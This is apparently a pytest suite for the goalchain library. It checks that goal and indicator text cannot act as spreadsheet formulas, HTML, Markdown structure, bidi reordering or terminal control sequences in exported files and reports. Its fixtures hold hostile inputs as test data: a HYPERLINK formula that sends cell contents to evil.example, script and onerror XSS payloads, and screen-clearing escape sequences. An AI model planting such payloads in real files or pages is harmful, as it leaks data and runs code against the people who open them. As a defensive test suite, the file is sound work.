"""Safe outputs (issue 14): text from a chain never acts in what goalchain writes.

No formula in a spreadsheet, no HTML or structure in Markdown, no control
sequence on a terminal, no bidi reordering of an HTML report, no colour that
is more than a colour.
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import goalchain as gc
from goalchain._safe_text import (
    csv_cell,
    csv_uncell,
    formula_like,
    isolate_bidi,
    json_text,
    markdown_text,
    one_line,
    terminal_text,
)
from goalchain.exceptions import InvalidValueError
from goalchain.io import read_measurements, write_template
from goalchain.io._csv import read_csv, write_csv_template

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
HOSTILE_TITLES = (
    LEAK,
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "#DIV/0!",
    "=",
)


def _chain(*titles: str, ids: tuple[str, ...] = ()) -> gc.GoalChain:
    chain = gc.GoalChain(name="Exempel")
    for k, title in enumerate(titles):
        element = ids[k] if k < len(ids) else f"i{k}"
        chain.add_indicator(element, title, unit="percent")
    return chain


# ------------------------------------------------------------------ spreadsheets


def _xlsx_cells(path: Path) -> list[str]:
    """The <c> elements of the first sheet, as written."""
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode("utf-8")
    return re.findall(r"<c [^>]*>.*?</c>|<c [^>]*/>", xml)


def test_xlsx_template_writes_a_hostile_title_as_text_not_a_formula(tmp_path: Path) -> None:
    pytest.importorskip("openpyxl")
    path = tmp_path / "t.xlsx"
    write_template(_chain(*HOSTILE_TITLES), path, years=2024)
    cells = _xlsx_cells(path)
    assert not any("<f>" in c or "<f " in c for c in cells), "a formula was written"
    assert not any('t="e"' in c for c in cells), "an error value was written"
    leak = next(c for c in cells if "HYPERLINK" in c)
    assert 't="inlineStr"' in leak
    # the year is a number, not text
    year = next(c for c in cells if ">2024<" in c)
    assert 't="n"' in year


def test_xlsx_template_text_keeps_excels_quote_prefix(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    path = tmp_path / "t.xlsx"
    write_template(_chain(LEAK, "Andel behöriga"), path, years=2024)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    titles = {row[1].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert titles[LEAK].data_type == "s" and titles[LEAK].quotePrefix
    assert not titles["Andel behöriga"].quotePrefix


def test_csv_template_escapes_formula_cells_with_a_quote(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_template(_chain(*HOSTILE_TITLES, ids=("=i0", "-1")), path, years=2024)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    titles = [row[1] for row in rows[1:]]
    assert "'" + LEAK in titles and "''=already quoted" in titles and "#DIV/0!" in titles
    assert rows[1][0] == "'=i0" and rows[2][0] == "'-1"
    assert rows[1][2] == "2024"  # a number stays a number


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_template_goalchain_wrote_reads_back_to_the_same_ids(tmp_path: Path, suffix: str) -> None:
    if suffix == ".xlsx":
        pytest.importorskip("openpyxl")
    ids = ("=i0", "-1", "@x", "+7", "'=q", "plain")
    chain = _chain(*HOSTILE_TITLES[: len(ids)], ids=ids)
    path = tmp_path / f"t{suffix}"
    write_template(chain, path, years=2024, lang="en")
    # fill in the value column as a controller would, then read it back
    if suffix == ".csv":
        text = path.read_text(encoding="utf-8-sig").replace(";2024;;%", ";2024;12,5;%")
        path.write_text(text, encoding="utf-8-sig")
    else:
        import openpyxl

        book = openpyxl.load_workbook(path)
        for row in book.worksheets[0].iter_rows(min_row=2):
            row[3].value = 12.5
        book.save(path)
    got = read_measurements(path, chain)
    assert sorted(m.indicator for m in got) == sorted(ids)
    assert {m.value for m in got} == {12.5}


def test_a_negative_number_is_written_as_a_number(tmp_path: Path) -> None:
    path = tmp_path / "n.csv"
    write_csv_template(path, [["a", "b"], [-5, -2.5], ["-5", None]])
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert lines[1] == "-5;-2.5" and lines[2] == "'-5;"


def test_xlsx_template_refuses_an_id_it_cannot_hold_and_shows_a_title_control(
    tmp_path: Path,
) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    path = tmp_path / "t.xlsx"
    write_template(_chain("Röd\x1b[31m titel"), path, years=2024)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert sheet["B2"].value == "Röd␛[31m titel"
    with pytest.raises(InvalidValueError, match="control character"):
        write_template(_chain("t", ids=("a\x1bb",)), tmp_path / "u.xlsx", years=2024)


_TEXT = st.text(alphabet=st.characters(codec="utf-8"), max_size=20)


@given(_TEXT)
def test_csv_cell_round_trips_and_never_starts_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert not formula_like(cell)
    assert csv_uncell(cell) == text


@given(st.lists(st.lists(_TEXT.filter(lambda t: "\r" not in t), min_size=2, max_size=2)))
def test_csv_template_rows_read_back_as_written(rows: list[list[str]]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "r.csv"
        header = ["a", "b"]
        write_csv_template(path, [header, *rows])
        table = read_csv(path, delimiter=";")
    assert [list(v) for _, v in table.rows] == [header, *rows]


# ------------------------------------------------------------------ reports

RATIONALE = (
    "Bra.\n\n# Inte en rubrik\n\n<script>alert(2)</script>\n- ingen lista\n"
    "| ingen | tabell |\n> inget citat"
)


def _hostile_chain() -> gc.GoalChain:
    chain = gc.GoalChain(name="Kommun <script>alert(0)</script> ##", model="classic")
    chain.add_goal("vision", "Vision", level="vision")
    chain.add_goal(
        "kf1",
        "<img src=x onerror=alert(1)> **fet** [länk](javascript:alert(3))",
        level="council",
        parents=["vision"],
        owner="KF | <b>ägare</b>\n\n## ägarrubrik",
    )
    chain.add_goal("kf2", "Skola \u202eevil\u202c slut", level="council", parents=["vision"])
    chain.add_indicator(
        "i1",
        "Andel `kod` <i>behöriga</i>\n\n# rubrik",
        parents=["kf1"],
        unit="percent",
        direction="increase",
        baseline=(2022, 78.0),
        target=(2026, 90.0),
    )
    chain.record("i1", 2024, 80.5, source="<b>Egen</b>\n\n# källa")
    chain.assess(
        "kf1",
        2024,
        status="partly",
        rationale=RATIONALE,
        participants=["A<b>", "[länk](javascript:alert(4))"],
    )
    return chain


def _markdown_lines(text: str) -> list[str]:
    return text.splitlines()


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_markdown_report_has_no_raw_html_from_the_chain(lang: str) -> None:
    text = gc.report.markdown(_hostile_chain(), 2024, lang=lang)
    for raw in ("<script", "<img", "<b>", "<i>", "</"):
        assert raw not in text, raw
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in text


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_markdown_report_text_from_the_chain_starts_no_block(lang: str) -> None:
    text = gc.report.markdown(_hostile_chain(), 2024, lang=lang)
    lines = _markdown_lines(text)
    headings = [line for line in lines if line.startswith("#")]
    # only the report's own headings: the title and the sections
    assert headings[0].startswith("# ") and all(h.startswith("## ") for h in headings[1:])
    assert len(headings) == len({h for h in headings})
    assert not any("rubrik" in h for h in headings)
    # the rationale stays inside its list item, on one line
    (item,) = [line for line in lines if "Inte en rubrik" in line]
    assert item.startswith("- **") and "ingen lista" in item and "inget citat" in item
    assert not any(line.startswith(("> inget", "- ingen", "| ingen")) for line in lines)
    # every table row has as many cells as its header
    for block in text.split("\n\n"):
        rows = [r for r in block.splitlines() if r.startswith("|")]
        if rows:
            widths = {len(re.split(r"(?<!\\)\|", r)) for r in rows}
            assert len(widths) == 1, rows
    # links and emphasis from the chain are escaped, not markup
    assert "\\[länk\\]" in text and "\\*\\*fet\\*\\*" in text and "\\`kod\\`" in text


def test_markdown_title_keeps_its_closing_hashes() -> None:
    text = gc.report.markdown(_hostile_chain(), 2024)
    assert text.splitlines()[0].endswith("\\#\\#")


@given(st.text(max_size=40))
def test_markdown_text_is_one_line_without_html(text: str) -> None:
    shown = markdown_text(text)
    assert "\n" not in shown and "\r" not in shown and "<" not in shown and ">" not in shown
    # a backslash escape stands before every character that could be markup
    assert re.search(r"(?<!\\)(?:\\\\)*[*`\[\]#|~]", shown) is None


def _assert_isolated(page: str) -> None:
    """Every right-to-left override is inside an isolate, and closed before it ends."""
    assert "\u202e" in page
    for match in re.finditer("\u202e", page):
        before, after = page[: match.start()], page[match.end() :]
        assert before.count("\u2068") > before.count("\u2069")
        assert after.index("\u202c") < after.index("\u2069")


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_html_report_isolates_bidi_controls(lang: str) -> None:
    page = gc.report.html(_hostile_chain(), 2024, lang=lang)
    assert "<script" not in page and "<img" not in page
    _assert_isolated(page)
    assert "\u2068Skola \u202eevil\u202c slut\u2069" in page


def test_html_pieces_isolate_bidi() -> None:
    chain = _hostile_chain()
    assert "\u2068Skola \u202eevil\u202c slut\u2069" in gc.report.chain_html(chain)
    unbalanced = gc.GoalChain(name="x")
    unbalanced.add_goal("g", "a\u202eb", level="council")
    html = gc.report.chain_html(unbalanced, css=False)
    assert "\u2068a\u202eb\u202c\u2069" in html


@given(
    st.text(
        alphabet=st.sampled_from(
            "ab\u05d0\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
        ),
        max_size=20,
    )
)
def test_isolate_bidi_balances_every_opener(text: str) -> None:
    shown = isolate_bidi(text)
    depth: list[str] = []
    for ch in shown:
        if ch in "\u202a\u202b\u202d\u202e":
            depth.append("\u202c")
        elif ch in "\u2066\u2067\u2068":
            depth.append("\u2069")
        elif ch in "\u202c\u2069":
            assert depth and depth.pop() == ch
    assert depth == []
    if all(ch in "ab" for ch in text):
        assert shown == text  # left-to-right text is left as it is


def test_mermaid_and_dot_isolate_bidi() -> None:
    chain = _hostile_chain()
    assert "\u2068Skola \u202eevil\u202c slut\u2069" in chain.to_mermaid()
    assert "\u2068Skola \u202eevil\u202c slut\u2069" in chain.to_dot()


# ------------------------------------------------------------------ colours


@pytest.mark.parametrize("colour", ["#2e7d32\n", "#2e7d32;x", " #2e7d32", "#2e7d3", "2e7d32"])
def test_a_colour_is_exactly_a_hex_colour(colour: str) -> None:
    from goalchain.rollup import StatusScale

    with pytest.raises(InvalidValueError, match="hex colour"):
        StatusScale(colours={"achieved": colour})
    with pytest.raises(InvalidValueError, match="hex colour"):
        gc.report.text_colour(colour)


def test_a_colour_from_a_file_cannot_add_a_mermaid_statement() -> None:
    from goalchain.rollup import StatusScale

    assert StatusScale(colours={"achieved": "#ABC"}).colour("achieved") == "#ABC"
    assert gc.report.text_colour("#fff") == "#000000"


# ------------------------------------------------------------------ terminals

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31mröd\x9b31m\r\x08\x7f"


def _terminal_chain() -> gc.GoalChain:
    chain = gc.GoalChain(name="Kommun\x1b[2J", model="classic")
    chain.add_goal("vision", "Vision " + ESCAPES, level="vision", owner="KF\nfalsk rad")
    chain.add_goal("kf\x1b1", "Mål\u202eevil", level="council", parents=["vision"])
    return chain


def _assert_no_controls(text: str, *, newlines: bool = True) -> None:
    for ch in text:
        if ch == "\n" and newlines:
            continue
        assert not (ch < " " or "\x7f" <= ch <= "\x9f"), repr(ch)
        assert ch not in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069", repr(ch)


def test_render_tree_shows_controls_and_keeps_one_line_per_element() -> None:
    tree = gc.report.render_tree(_terminal_chain())
    _assert_no_controls(tree)
    lines = tree.splitlines()
    assert len(lines) == 3  # the chain, the vision, the council goal
    assert "␛[2J" in lines[0] and "KF␤falsk rad" in lines[1] and "\\x9b31m" in lines[1]


def test_text_table_cells_stay_on_their_row() -> None:
    table = gc.report.text_table(["a", "b"], [["x\ny", "\x1b[31m"]])
    assert len(table.splitlines()) == 3 and "x␤y" in table and "␛[31m" in table


@given(st.text(max_size=30))
def test_terminal_text_writes_no_control_character(text: str) -> None:
    _assert_no_controls(terminal_text(text))
    _assert_no_controls(one_line(text), newlines=False)
    assert terminal_text(text).count("\n") == text.count("\n")


@given(st.recursive(st.text(max_size=10), lambda c: st.lists(c, max_size=3), max_leaves=8))
def test_json_text_is_the_same_json_without_controls(data: object) -> None:
    import json

    text = json_text(json.dumps(data, ensure_ascii=False, indent=2))
    _assert_no_controls(text)
    assert json.loads(text) == data


# ------------------------------------------------------------------ DataFrames


def test_spreadsheet_safe_frame_writes_no_formula(tmp_path: Path) -> None:
    pd = pytest.importorskip("pandas")
    pytest.importorskip("openpyxl")
    chain = _chain(*HOSTILE_TITLES, ids=("=i0", "-1"))
    frame = gc.report.indicators_frame(chain)
    safe = gc.report.spreadsheet_safe(frame)
    assert frame.loc["i2", "title"] == "-2+3"  # the frame given is not changed
    assert safe.loc["'=i0", "title"] == "'" + LEAK
    assert list(safe.dtypes) == list(frame.dtypes)
    path = tmp_path / "frame.xlsx"
    safe.to_excel(path)
    cells = _xlsx_cells(path)
    assert not any("<f>" in c for c in cells)
    # unescaped, pandas would have written the title as a formula
    frame.to_excel(tmp_path / "raw.xlsx")
    assert any("<f>" in c for c in _xlsx_cells(tmp_path / "raw.xlsx"))
    # with CRLF line ends, csv quotes a text with a line break (a bare CR would end the row)
    rows = list(csv.reader(io.StringIO(safe.to_csv(lineterminator="\r\n"), newline="")))
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows for cell in row)
    numbers = pd.DataFrame({"x": [-5.0, 2.0], "t": pd.array(["-a", None], dtype="string")})
    shown = gc.report.spreadsheet_safe(numbers)
    assert shown["x"].tolist() == [-5.0, 2.0] and shown["t"].tolist()[0] == "'-a"
    assert shown["t"].isna().tolist() == [False, True]
    with pytest.raises(InvalidValueError, match="DataFrame"):
        gc.report.spreadsheet_safe([1, 2])


# ------------------------------------------------------------------ charts and SMART


def test_a_dollar_in_a_title_is_a_dollar_in_a_chart() -> None:
    pytest.importorskip("matplotlib")
    chain = gc.GoalChain(name="Exempel", model="classic")
    chain.add_goal("vision", "Vision", level="vision")
    chain.add_goal("kf1", r"Kostnad $\frac{a}{$ per elev", level="council", parents=["vision"])
    chain.add_indicator(
        "i1",
        r"Kostnad i $\frac{ per elev $",
        parents=["kf1"],
        unit="percent",
        baseline=(2022, 78.0),
        target=(2026, 90.0),
    )
    chain.record("i1", 2024, 80.0)
    for figure in (
        gc.report.plot_trajectory(chain, "i1"),
        gc.report.plot_status_overview(chain, chain.rollup(2024)),
    ):
        fig = getattr(figure, "figure", figure)
        fig.savefig(io.BytesIO(), format="png")  # drawing parses the texts
    title = gc.report.plot_trajectory(chain, "i1").axes[0].get_title(loc="left")
    assert title == r"Kostnad i \$\frac{ per elev \$"


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_smart_markdown_has_no_raw_html_or_structure(lang: str) -> None:
    text = gc.smart.check(_hostile_chain(), lang=lang).to_markdown(include_passed=True)
    assert "<img" not in text and "<b>" not in text and "<script" not in text
    headings = [line for line in text.splitlines() if line.startswith("#")]
    assert not any("rubrik" in h for h in headings)
    assert all(h.startswith("## ") for h in headings[1:])
    html = gc.smart.check(_hostile_chain(), lang=lang)._repr_html_()
    assert "<img" not in html
    _assert_isolated(html)
